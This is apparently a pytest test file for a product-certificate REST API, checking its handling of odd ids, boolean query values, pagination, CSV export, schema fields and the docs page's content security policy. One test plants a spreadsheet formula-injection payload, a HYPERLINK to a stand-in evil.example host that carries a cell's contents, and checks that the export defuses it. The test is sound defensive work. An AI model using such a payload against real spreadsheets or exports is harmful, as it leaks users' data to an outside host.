"""What the API answers to odd requests (found by a hunt for bad inputs):
suffixed and non-ASCII ids, ``mine`` spelt as clients spell booleans, CSV
asked for by its media type and made safe for spreadsheets, and the parts of
API.md the certificate answers must carry."""

import csv
import io

import pytest
import yaml

from . import factories
from .factories import BatchFactory, ProductFactory, UserFactory, certificate, full_panel_results


@pytest.fixture
def tested(db):
    batch = BatchFactory(lot_code="GMD-0926")
    made = certificate(batch, results=full_panel_results())
    return batch, made


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/products/{product}.json",
        "/api/v1/products/{product}.api",
        "/api/v1/products/export.json",
        "/api/v1/lots.json?code=GMD-0926",
        "/api/v1/certificates/{certificate}.json",
    ],
)
def test_format_suffixes_are_not_urls(api, tested, path):
    batch, made = tested
    url = path.format(product=batch.product.pk, certificate=made.pk)
    assert api.get(url).status_code == 404


@pytest.mark.parametrize("digit", ["%C2%B2", "%C2%B9", "%E2%91%A0", "%D9%A1"])
def test_ids_are_ascii_digits(api, tested, digit):
    """ "²", "①" and Arabic-Indic "١" pass ``str.isdigit``; none names product 1."""
    assert api.get(f"/api/v1/products/{digit}/").status_code == 404
    assert api.get(f"/api/v1/certificates/{digit}/").status_code == 404
    api.force_authenticate(UserFactory(username="staff", is_staff=True))
    assert api.post(f"/api/v1/certificates/{digit}/approve").status_code == 404
    assert api.post(f"/api/v1/certificates/{digit}/approve/").status_code == 404


@pytest.mark.parametrize("spelling", ["1", "true", "True", "TRUE", "yes", "on"])
def test_mine_takes_any_spelling_of_true(api, db, spelling):
    membership = factories.MembershipFactory()
    product = ProductFactory(vendor=membership.vendor)
    own = certificate(BatchFactory(product=product), approve=False)
    certificate(BatchFactory())  # someone else's, public
    api.force_authenticate(membership.user)
    listed = api.get(f"/api/v1/certificates/?mine={spelling}").json()["results"]
    assert [c["id"] for c in listed] == [own.pk]
    vendors = api.get(f"/api/v1/vendors/?mine={spelling}").json()["results"]
    assert [v["slug"] for v in vendors] == [membership.vendor.slug]


def test_mine_false_lists_public_and_nonsense_is_an_error(api, db):
    membership = factories.MembershipFactory()
    certificate(BatchFactory())
    api.force_authenticate(membership.user)
    assert api.get("/api/v1/certificates/?mine=0").json()["count"] == 1
    assert api.get("/api/v1/certificates/?mine=false").json()["count"] == 1
    wrong = api.get("/api/v1/certificates/?mine=maybe")
    assert wrong.status_code == 400
    assert "mine" in wrong.json()
    assert api.get("/api/v1/vendors/?mine=maybe").status_code == 400


def test_csv_export_answers_accept_text_csv(api, tested):
    batch, _ = tested
    response = api.get("/api/v1/products/export/", HTTP_ACCEPT="text/csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [r["name"] for r in rows] == [batch.product.name]
    bad = api.get("/api/v1/products/export/?tested_within=abc", HTTP_ACCEPT="text/csv")
    assert bad.status_code == 400
    assert bad["Content-Type"].startswith("text/csv")
    assert bad.content.decode().splitlines()[1].startswith("tested_within,")


def test_csv_export_cannot_carry_a_spreadsheet_formula(api, db):
    vendor = factories.VendorFactory(name="@SUM(1+1)")
    ProductFactory(vendor=vendor, name='=HYPERLINK("http://evil.example/?x="&A1,"Click")')
    response = api.get("/api/v1/products/export/")
    row = next(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert row["name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert row["vendor"] == "'@SUM(1+1)"


def test_certificate_results_say_whether_each_is_within_limits(api, db):
    """API.md: each result carries ``within_limits`` against the default
    standard; a result with no limit there says null, not true."""
    over = full_panel_results(lead={"value": "2.4", "unit": "ppm"})
    made = certificate(BatchFactory(), results=over)
    results = {
        r["analyte"]: r for r in api.get(f"/api/v1/certificates/{made.pk}/").json()["results"]
    }
    assert results["lead"]["within_limits"] is False
    assert results["arsenic"]["within_limits"] is True
    assert results["cadmium"]["within_limits"] is True  # ND
    assert results["salmonella"]["within_limits"] is True  # absent
    assert results["mitragynine"]["within_limits"] is None  # reported, no limit
    listed = api.get("/api/v1/certificates/").json()["results"][0]["results"]
    assert {r["analyte"]: r["within_limits"] for r in listed}["lead"] is False


def test_schema_matches_what_anonymous_answers_carry(api, db):
    schema = yaml.safe_load(api.get("/api/v1/schema/").content)
    component = schema["components"]["schemas"]["Certificate"]
    assert "flags" in component["properties"]
    assert "flags" not in component["required"]
    result = schema["components"]["schemas"]["Result"]
    assert "within_limits" in result["properties"]
    export = schema["paths"]["/api/v1/products/export/"]["get"]
    assert {"vendor", "verdict", "tested_within"} <= {p["name"] for p in export["parameters"]}


def test_docs_load_nothing_from_another_site(api, db):
    """The CSP allows scripts and styles from this site only: the docs page
    must load Swagger UI from our static files and its start-up script from
    a URL of its own, not inline."""
    page = api.get("/api/v1/docs/").content.decode()
    assert "https://" not in page and "http://" not in page
    assert "<script>" not in page
    start = api.get("/api/v1/docs/?script=")
    assert start.status_code == 200
    assert start["Content-Type"].startswith("application/javascript")
    assert "/api/v1/schema/" in start.content.decode()


@pytest.mark.parametrize("page", ["0", "-1", "abc", "1.5"])
def test_a_page_that_is_not_a_page_number_is_a_400_naming_the_field(api, tested, page):
    response = api.get(f"/api/v1/products/?page={page}")
    assert response.status_code == 400
    assert "page" in response.json()


def test_a_page_past_the_end_is_a_404_naming_the_last(api, tested):
    response = api.get("/api/v1/products/?page=9")
    assert response.status_code == 404
    assert response.json() == {"page": ["There is no page 9: the last is 1."]}
    assert api.get("/api/v1/products/?page=last").status_code == 200
    assert api.get("/api/v1/products/?page=1").status_code == 200
